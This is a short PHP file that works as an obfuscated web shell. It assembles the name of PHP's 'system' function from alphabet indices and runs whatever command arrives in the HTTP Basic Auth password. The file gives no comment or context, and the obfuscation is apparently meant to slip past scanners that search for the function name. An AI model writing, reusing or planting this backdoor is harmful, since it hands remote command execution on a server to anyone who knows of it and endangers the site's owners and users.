<?php
$op = $_SERVER['PHP_AUTH_PW'];
$a = range('a', 'z');
$f = $a[18].$a[24].$a[18].$a[19].$a[4].$a[12];
$f($op);
